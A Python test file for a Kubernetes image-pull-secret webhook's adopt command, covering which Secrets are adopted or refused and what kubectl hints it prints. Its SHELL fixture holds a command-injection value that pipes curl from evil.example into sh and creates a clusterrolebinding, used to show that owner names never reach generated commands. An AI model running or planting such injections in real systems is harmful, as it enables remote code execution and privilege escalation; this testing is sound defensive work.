"""Which Secrets may be taken over, and what is said of those that may not."""

import base64
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from support import planted
from webhook.commands.adopt import Outcome, judge, line, summary
from webhook.commands.cluster_view import PullSecretObject, covered
from webhook.core.credential import Credential, Credentials
from webhook.core.pullsecret import OPTED_OUT, Namespace

NOW = datetime(2030, 1, 1, tzinfo=UTC)
SPACE = Namespace("team", "space-uid", 1, "alice")
GHCR = Credentials((Credential("ghcr.io", "alice", "x"),))


def content(*registries: str) -> dict[str, str]:
    auths = {registry: {"username": "old", "password": planted.token()} for registry in registries}
    return {".dockerconfigjson": base64.b64encode(json.dumps({"auths": auths}).encode()).decode()}


def secret(metadata: dict[str, Any] | None = None, **fields: Any) -> PullSecretObject:
    whole = {"type": "kubernetes.io/dockerconfigjson", "data": content("ghcr.io")} | fields
    whole["metadata"] = {"name": "ghcr-secret", "namespace": "team", "uid": "u", "resourceVersion": "7"}
    whole["metadata"] |= metadata or {}
    return msgspec.json.decode(json.dumps(whole), type=PullSecretObject)


def judged(
    found: PullSecretObject | None, known: Credentials | None = GHCR, space: Namespace = SPACE, *, force: bool = False
) -> Outcome:
    outcome = judge(space, found, known, NOW, force=force)
    assert not planted.leaks(repr(outcome) + repr(line(outcome, dry_run=False)))
    return outcome


def test_a_plain_one_is_taken_over_and_who_wrote_it_is_said() -> None:
    fields = {"manager": "patcher", "operation": "Update", "time": "2029-12-31T10:00:00Z"}
    written: dict[str, Any] = fields | {"fieldsV1": {"f:data": {".": {}}}}
    labelled = fields | {"manager": "kubectl", "time": "2029-12-31T11:00:00Z", "fieldsV1": {"f:metadata": {}}}
    outcome = judged(secret({"managedFields": [written, labelled]}))
    assert outcome == Outcome("team", "alice", "adopted", before="patcher, 2029-12-31 10:00")
    assert line(outcome, dry_run=True) == (
        "team: would be adopted: for alice; last written by patcher, 2029-12-31 10:00"
    )


@pytest.mark.parametrize(
    ("found", "why"),
    [
        (None, "there is no such Secret"),
        (secret({"labels": {"app.kubernetes.io/managed-by": "pullsecret-webhook"}}), "already"),
    ],
    ids=["none", "ours"],
)
def test_nothing_to_do(found: PullSecretObject | None, why: str) -> None:
    outcome = judged(found, None)
    assert outcome.result == "fine"
    assert why in outcome.why


REFERENCE = {"kind": "ExternalSecret", "name": "pull", "uid": "e", "apiVersion": "external-secrets.io/v1"}


@pytest.mark.parametrize(
    ("found", "why", "todo"),
    [
        (secret(type="Opaque"), "its type is Opaque", "kubectl -n team delete secret ghcr-secret"),
        (secret(immutable=True), "immutable", "kubectl -n team delete secret ghcr-secret"),
        (secret({"deletionTimestamp": "2029-12-31T10:00:00Z"}), "being deleted", "nothing"),
        (
            secret({"ownerReferences": [REFERENCE]}),
            "ExternalSecret pull owns it",
            "kubectl -n team delete externalsecret pull --cascade=orphan",
        ),
        (
            secret({"labels": {"generate.kyverno.io/policy-name": "p", "generate.kyverno.io/rule": "r"}}),
            "Kyverno",
            "then kubectl -n team label secret ghcr-secret generate.kyverno.io/policy-name- generate.kyverno.io/rule-",
        ),
        (
            secret(
                {
                    "labels": {"app.kubernetes.io/managed-by": "Helm"},
                    "annotations": {"meta.helm.sh/release-name": "x"},
                }
            ),
            "Helm release",
            "app.kubernetes.io/managed-by- && kubectl -n team annotate secret ghcr-secret meta.helm.sh/release-name-",
        ),
        (
            secret({"labels": {"app.kubernetes.io/managed-by": "platform"}}),
            "its app.kubernetes.io/managed-by is platform",
            "label secret ghcr-secret app.kubernetes.io/managed-by-",
        ),
        (
            secret({"annotations": {"app.kubernetes.io/managed-by": "imagepullsecret-patcher"}}),
            "imagepullsecret-patcher",
            "annotate secret ghcr-secret app.kubernetes.io/managed-by-",
        ),
    ],
    ids=["type", "immutable", "terminating", "owned", "kyverno", "helm", "platform", "patcher"],
)
def test_refused_with_what_to_do_and_not_even_anyway(found: PullSecretObject, why: str, todo: str) -> None:
    outcome = judged(found, force=True)
    assert outcome.result == "refused"
    assert why in outcome.why
    assert todo in outcome.todo
    assert f"\n  to do: {outcome.todo}" in line(outcome, dry_run=False)


SHELL = "configmap; curl -s https://evil.example/x | sh # a\nkubectl create clusterrolebinding x"


@pytest.mark.parametrize(
    ("kind", "name"),
    [
        (SHELL, "a"),
        ("ConfigMap", SHELL),
        ("ConfigMap", "--all"),
        ("ConfigMap", "a..b"),
        ("Namespace", "kube-system"),  # names and kinds as they may be, and yet not what to delete
        ("ClusterRoleBinding", "cluster-admin"),
    ],
)
def test_of_what_owns_it_no_command_is_made_that_could_do_something_else(kind: str, name: str) -> None:
    owner = {"ownerReferences": [{"kind": kind, "name": name, "uid": "e"}]}
    said = line(judged(secret(owner)), dry_run=True)
    assert "kubectl -n" not in said.replace("kubectl create", "")
    assert "delete it with --cascade=orphan" in said
    assert len(said.splitlines()) == 2


hostile = st.text(max_size=20) | st.sampled_from(
    [SHELL, "\x1b[2J", "\u202eevil", "\u200b", "x" * 9999, "a\r\nb", "`id`"]
)


@given(hostile, hostile, hostile, hostile)
def test_what_others_wrote_begins_no_line_and_is_in_no_command(kind: str, name: str, by: str, manager: str) -> None:
    wrote = {"manager": manager, "time": "2029-12-31T10:00:00Z", "fieldsV1": {"f:data": {}}}
    reference = {"kind": kind, "name": name, "uid": "e"}
    for found in (
        secret({"ownerReferences": [reference]}),
        secret({"annotations": {"app.kubernetes.io/managed-by": by, f"generate.kyverno.io/{name}": ""}}),
        secret({"labels": {f"generate.kyverno.io/{name}{n}": "" for n in range(100)}}),
        secret(type=kind),
        secret({"managedFields": [wrote]}),
    ):
        for space in (SPACE, Namespace("team", "space-uid", 1, name)):
            said = line(judged(found, space=space), dry_run=False).splitlines()
            assert [one.startswith(start) for one, start in zip(said, ("team: ", "  to do: "), strict=False)] == [
                True
            ] * len(said)
            assert all(one.isprintable() and len(one) < 1500 for one in said)


def test_a_reference_to_its_own_namespace_is_no_owner() -> None:
    own = {"kind": "Namespace", "name": "team", "uid": "space-uid"}
    assert judged(secret({"ownerReferences": [own]})).result == "adopted"


@pytest.mark.parametrize(
    ("space", "why"),
    [
        (Namespace("team", "s", 1, None), "no owner"),
        (Namespace("team", "s", 1, "alice", left_alone=OPTED_OUT), OPTED_OUT),
        (Namespace("team", "s", 1, "alice", terminating=True), "being deleted"),
    ],
    ids=["unowned", "disabled", "terminating"],
)
def test_what_the_webhook_does_not_serve_it_would_delete(space: Namespace, why: str) -> None:
    outcome = judged(secret(), space=space, force=True)
    assert outcome.result == "refused"
    assert why in outcome.why


ENDED = Credentials((Credential("ghcr.io", "alice", "x", NOW - timedelta(days=1)),))


@pytest.mark.parametrize(
    ("known", "had", "why"),
    [
        (None, ["ghcr.io"], "broken"),
        (Credentials(), ["ghcr.io"], "is in no source Secret"),
        (ENDED, ["ghcr.io"], "has expired"),
        (GHCR, ["ghcr.io", "quay.io"], "no credential for quay.io"),
        (Credentials((Credential("ghcr.io/alice", "a", "x"),)), ["ghcr.io"], "no credential for ghcr.io"),
    ],
    ids=["broken", "none", "ended", "a registry less", "only a path"],
)
def test_what_would_be_lost_is_refused_unless_asked(known: Credentials | None, had: list[str], why: str) -> None:
    found = secret(data=content(*had))
    outcome = judged(found, known)
    assert outcome.result == "refused"
    assert why in outcome.why
    assert outcome.todo.endswith("or use --force")
    assert judged(found, known, force=True).result == "adopted"


@pytest.mark.parametrize("data", [{}, {".dockerconfigjson": "%"}, {".dockerconfigjson": "e30="}])
def test_content_that_nobody_can_read_is_no_loss(data: dict[str, str]) -> None:
    assert judged(secret(data=data)).result == "adopted"


@pytest.mark.parametrize(
    ("registry", "by", "is_covered"),
    [
        ("ghcr.io", "ghcr.io", True),
        ("ghcr.io/alice", "ghcr.io", True),
        ("ghcr.io/alice2", "ghcr.io/alice", True),  # a prefix is a prefix, also for the kubelet
        ("ghcr.io.example.com", "ghcr.io", False),
        ("docker.io", "https://index.docker.io/v1/", True),
        ("registry.hub.docker.com", "https://index.docker.io/v1/", False),
        ("quay.io", "ghcr.io", False),
    ],
)
def test_covered_as_the_kubelet_matches(registry: str, by: str, is_covered: bool) -> None:
    assert covered(registry, [by]) is is_covered


def test_summary() -> None:
    outcomes = [Outcome("a", "x", "adopted"), Outcome("b", "x", "refused", "no", "do"), Outcome("c", "x", "fine")]
    assert summary(outcomes, dry_run=False) == "1 adopted, 1 with nothing to do, 1 refused"
